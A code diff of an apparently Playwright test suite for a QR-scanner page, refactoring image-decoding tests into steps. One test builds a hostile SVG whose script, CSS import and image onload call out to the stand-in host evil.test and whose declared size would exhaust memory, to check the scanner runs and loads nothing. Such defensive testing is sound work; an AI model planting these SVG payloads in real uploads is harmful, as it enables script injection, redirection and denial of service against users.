@@ -2,9 +2,8 @@
 import { flatCode, onLargePhoto } from '@countersign/fixtures/flat-code';
 import { symbolOf } from '@countersign/fixtures/symbol';
 import type { Page } from '@playwright/test';
-import { withCameras } from './support/code-camera.ts';
 import { expect, test } from './support/test.ts';
-import { NO_PAGE_ERRORS, watchPage } from './support/watch-page.ts';
+import { NO_PAGE_ERRORS } from './support/watch-page.ts';
 
 const GOOD = 'https://pay.example.com/loan/4711';
 const PHOTO = { width: 4000, height: 3000 };
@@ -15,18 +14,18 @@ function grainOf(seed: number): () => number {
   return () => (state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) / 2 ** 32;
 }
 
-const pictures: Record<string, () => Promise<Buffer>> = {
-  'of one pixel a module': () => flatCode('QRCode', GOOD, { module: 1 }),
-  'of a code printed in halftone': () =>
-    flatCode('QRCode', GOOD, {
+const PICTURES: Record<string, (text: string) => Promise<Buffer>> = {
+  'of one pixel a module': (text) => flatCode('QRCode', text, { module: 1 }),
+  'of a code printed in halftone': (text) =>
+    flatCode('QRCode', text, {
       module: 3,
       shade: (x, y, isDark) => (isDark ? ((x >> 2) % 2 === (y >> 2) % 2 ? 100 : 5) : 250),
     }),
-  'of a small code on a large photograph': async () =>
-    onLargePhoto(await flatCode('QRCode', GOOD, { module: 3 }), PHOTO),
-  'of a grainy code on a panorama': async () => {
+  'of a small code on a large photograph': async (text) =>
+    onLargePhoto(await flatCode('QRCode', text, { module: 3 }), PHOTO),
+  'of a grainy code on a panorama': async (text) => {
     const grain = grainOf(5);
-    const code = await flatCode('QRCode', GOOD, {
+    const code = await flatCode('QRCode', text, {
       module: 24,
       shade: (_x, _y, isDark) => Math.max(0, Math.min(255, (isDark ? 70 : 180) + (grain() - 0.5) * 280)),
     });
@@ -34,39 +33,37 @@ const pictures: Record<string, () => Promise<Buffer>> = {
   },
 };
 
-for (const [name, draw] of Object.entries(pictures)) {
-  test(`a picture ${name} is read`, async ({ server }) => {
-    await withCameras({ count: 0 }, async (page) => {
-      const watch = await watchPage(page, server.url);
-      await page.goto(`${server.url}/qr-scanner`);
-      await choose(page, { name: 'code.png', mimeType: 'image/png', buffer: await draw() });
+test('pictures are read: tiny, printed in halftone, large or grainy', async ({ page, server, watch }) => {
+  await page.goto(`${server.url}/qr-scanner`);
+  for (const [index, [name, draw]] of Object.entries(PICTURES).entries()) {
+    await test.step(name, async () => {
+      const address = `https://pay.example.com/loan/${4711 + index}`;
+      await choose(page, { name: 'code.png', mimeType: 'image/png', buffer: await draw(address) });
+      await expect(page.getByText(address, { exact: true })).toBeVisible();
       await expect(page.getByText('Valid URL detected!')).toBeVisible();
-      await expect(page.getByText(GOOD, { exact: true })).toBeVisible();
-      expect(watch).toEqual(NO_PAGE_ERRORS);
+      await page.getByRole('button', { name: 'Scan Again' }).click();
     });
-  });
-}
+  }
+  expect(watch).toEqual(NO_PAGE_ERRORS);
+});
 
-test('an SVG is read, and neither runs nor loads anything', async ({ server }) => {
-  await withCameras({ count: 0 }, async (page) => {
-    const watch = await watchPage(page, server.url);
-    await page.goto(`${server.url}/qr-scanner`);
-    const symbol = await symbolOf('QRCode', GOOD);
-    const cells = Array.from({ length: symbol.width * symbol.height }, (_, at) => {
-      const [x, y] = [at % symbol.width, Math.floor(at / symbol.width)];
-      return symbol.isDark(x, y) ? `<rect x="${x}" y="${y}" width="1" height="1"/>` : '';
-    });
-    // The size that it asks for would take 40 GB.
-    const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000" viewBox="-4 -4 41 41">
-      <style>@import url('https://evil.test/a.css');</style>
-      <script>window.top.location = 'https://evil.test/'; fetch('https://evil.test/b');</script>
-      <image href="https://evil.test/c.png" width="1" height="1" onload="fetch('https://evil.test/d')"/>
-      ${cells.join('')}</svg>`;
-    await choose(page, { name: 'code.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(drawing) });
-    await expect(page.getByText('Valid URL detected!')).toBeVisible();
-    await expect(page.getByText(GOOD, { exact: true })).toBeVisible();
-    expect(watch).toEqual(NO_PAGE_ERRORS);
+test('an SVG is read, and neither runs nor loads anything', async ({ page, server, watch }) => {
+  await page.goto(`${server.url}/qr-scanner`);
+  const symbol = await symbolOf('QRCode', GOOD);
+  const cells = Array.from({ length: symbol.width * symbol.height }, (_, at) => {
+    const [x, y] = [at % symbol.width, Math.floor(at / symbol.width)];
+    return symbol.isDark(x, y) ? `<rect x="${x}" y="${y}" width="1" height="1"/>` : '';
   });
+  // The size that it asks for would take 40 GB.
+  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000" viewBox="-4 -4 41 41">
+    <style>@import url('https://evil.test/a.css');</style>
+    <script>window.top.location = 'https://evil.test/'; fetch('https://evil.test/b');</script>
+    <image href="https://evil.test/c.png" width="1" height="1" onload="fetch('https://evil.test/d')"/>
+    ${cells.join('')}</svg>`;
+  await choose(page, { name: 'code.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(drawing) });
+  await expect(page.getByText('Valid URL detected!')).toBeVisible();
+  await expect(page.getByText(GOOD, { exact: true })).toBeVisible();
+  expect(watch).toEqual(NO_PAGE_ERRORS);
 });
 
 async function choose(page: Page, file: { name: string; mimeType: string; buffer: Buffer }): Promise<void> {
